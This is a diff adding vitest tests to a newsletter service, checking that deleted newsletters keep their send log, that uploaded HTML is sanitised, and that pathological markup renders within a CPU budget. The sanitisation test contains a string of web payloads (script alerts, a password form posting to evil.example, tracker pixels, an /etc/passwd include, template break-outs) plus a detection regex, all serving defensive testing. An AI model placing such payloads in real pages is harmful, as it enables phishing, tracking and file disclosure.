@@ -1,4 +1,5 @@
 import { withFields } from '@nestling/rules/letters/blocks.ts';
+import { CallRefused } from '@nestling/testing/client.ts';
 import { type Person, startTestServer, type TestServer } from '@nestling/testing/test-server.ts';
 import { sql } from 'kysely';
 import { afterAll, beforeAll, expect, test } from 'vitest';
@@ -53,11 +54,14 @@ const create = async (subject = 'News for {{first_name|you}}') => {
 };
 const send = (id: string, more: object = {}) =>
   manager.call('sendNewsletter', { id, locations: [elm.id], ...more }, 'status message send { id } errors { code }');
-const work = (sendId: string) =>
-  sendLetterBy(() => async (to, letter, key) => {
+/** Runs the job once the moment has passed in which it could be held up. */
+const work = async (sendId: string) => {
+  server.clock.tick(30_000);
+  await sendLetterBy(() => async (to, letter, key) => {
     await before(to);
     sent.push({ to, letter, key });
-  })({ centre: server.tenant.centre, payload: { send: Number(sendId) }, appContext: server.app.appContext });
+  })(server.job(), { send: Number(sendId) });
+};
 const log = async (id: string) =>
   (await manager.call('getNewsletterLog', { id, first: 50 }, 'data { email status reason }')).data;
 
@@ -198,4 +202,104 @@ test('a page that is uploaded becomes a template without what runs; names are ta
   expect((await upload('spring')).errors).toEqual([{ code: 'TAKEN' }]);
   const [one] = (await admin.call('newsletterTemplates', { first: 9 }, 'data { id template uploaded }')).data;
   expect([one.uploaded, one.template.blocks[0].html]).toEqual([true, '<h1>Hi</h1>']);
+});
+
+test('what was sent stays in the log when the newsletter is deleted, and it is found there', async () => {
+  const id = await create('To be deleted');
+  const done = await send(id);
+  await work(done.send.id);
+  const whole = await log(id);
+  expect(whole).toHaveLength(5);
+  await manager.call('deleteNewsletter', { id }, 'status');
+  expect(await log(id)).toEqual(whole);
+  const list = async (deleted: boolean) =>
+    (await manager.call('newsletters', { deleted, first: 50 }, 'data { id }')).data.map(
+      (one: { id: string }) => one.id,
+    );
+  expect([(await list(false)).includes(id), (await list(true)).includes(id)]).toEqual([false, true]);
+  expect(await manager.call('newsletter', { id }, 'id')).toBeNull();
+  expect((await manager.call('sendNewsletter', { id, locations: [elm.id] }, 'status')).status).toBe('Error');
+  const elsewhere = await server.as('manager', { locations: [await aLocation(server.tenant, { name: 'Oak' })] });
+  await expect(elsewhere.call('getNewsletterLog', { id, first: 50 }, 'data { email }')).rejects.toThrow();
+});
+
+/** What opens an account elsewhere, follows its reader or covers what stands around it. */
+const HOSTILE = `<script>alert(1)</script><img src="http://tracker.example/x.png"><link rel=stylesheet href=//tracker.example/c>
+  <form action="http://evil.example/"><input name="password" type="password"><button>Sign in</button></form>
+  <iframe src="http://evil.example/"></iframe><a href="javascript:alert(2)">a</a><p onclick="alert(3)">b</p>
+  </mj-text></mj-column></mj-section><mj-raw><div style="position:fixed;inset:0;background:url(http://tracker.example/b)">cover</div>
+  </mj-raw><mj-include path="/etc/passwd" /><p style="margin-top:-900px;font-size:900px;color:red;padding:9999px">kept</p>
+  <table width="99999" bgcolor="#eee"><tr><td width="50%">cell &lt;/mj-text&gt; ]]&gt;</td></tr></table>`;
+const RUNS =
+  /<script|alert\(|tracker\.example|evil\.example|<form|<input|<button|<iframe|javascript:|onclick|position:\s*fixed|inset|margin-top:\s*-|900px|9999|<\/?mj-|passwd/i;
+
+test('a page holds nothing that runs, is fetched, is filled in or leaves its place, whichever way it comes', async () => {
+  const page = { id: 'page', type: 'page', html: HOSTILE };
+  const template = {
+    blocks: [page, { id: 'head', type: 'heading', text: '</mj-text><mj-raw><script>alert(1)</script>' }],
+  };
+  const shown = await manager.call('previewNewsletter', { template, subject: 'x' }, 'html plain');
+  expect(shown.html).toContain('kept');
+  expect(shown.html).toContain('&#60;script&#62;');
+  const tags: string[] = shown.html.match(/<[^>!]*>/g) ?? [];
+  for (const tag of tags) expect(tag).not.toMatch(RUNS);
+  expect(shown.html).toContain('color:red');
+
+  const made = await manager.call(
+    'createNewsletter',
+    { name: 'Hostile', template, location: elm.id },
+    'newsletter { id }',
+  );
+  const id = String(made.newsletter.id);
+  const kept = await server.tenant.db
+    .selectFrom('newsletter')
+    .select('template')
+    .where('id', '=', Number(id))
+    .executeTakeFirstOrThrow();
+  expect(JSON.stringify(kept.template)).not.toMatch(/tracker|<form|<input|mj-raw><div|position/);
+  // One that was kept before pages were cleaned is cleaned when it is sent.
+  await server.tenant.db
+    .updateTable('newsletter')
+    .set({ template: JSON.stringify({ blocks: [page] }) })
+    .where('id', '=', Number(id))
+    .execute();
+  const { status, send: gone } = await send(id, { subject: 'Of old' });
+  expect(status).toBe('Success');
+  const stored = await server.tenant.db
+    .selectFrom('letter_send')
+    .select('html')
+    .where('id', '=', Number(gone.id))
+    .executeTakeFirstOrThrow();
+  expect(stored.html).toContain('kept');
+  for (const tag of stored.html.match(/<[^>!]*>/g) ?? []) expect(tag).not.toMatch(RUNS);
+});
+
+/** A thread that is loaded while others work may be late: who is told to come again does so, as the portal. */
+const patiently = async <T>(ask: () => Promise<T>): Promise<T> => {
+  for (let times = 1; ; times += 1) {
+    try {
+      return await ask();
+    } catch (error) {
+      if (!(error instanceof CallRefused) || error.code !== 'NOT_READY' || times === 5) throw error;
+    }
+  }
+};
+
+test('the worst letter a manager may write keeps nobody waiting', async () => {
+  const blank = (html: string) => ({ blocks: [{ id: 'page', type: 'page', html }] });
+  const worst = [
+    `<p>${' '.repeat(88_000)}x</p>`,
+    '<br'.repeat(29_000),
+    '<li><ul>'.repeat(11_000),
+    '<b>x</b>'.repeat(11_000),
+    `<p>${'x'.repeat(88_000)}</p>`,
+  ].map(blank);
+  const many = { blocks: Array.from({ length: 90 }, (_, i) => ({ id: `div${i}`.padEnd(5, 'x'), type: 'divider' })) };
+  for (const template of [...worst, many]) {
+    const began = process.threadCpuUsage();
+    const shown = await patiently(() => manager.call('previewNewsletter', { template, subject: 'x' }, 'bytes'));
+    const { user, system } = process.threadCpuUsage(began);
+    expect(shown.bytes).toBeGreaterThan(100);
+    expect((user + system) / 1000).toBeLessThan(400);
+  }
 });
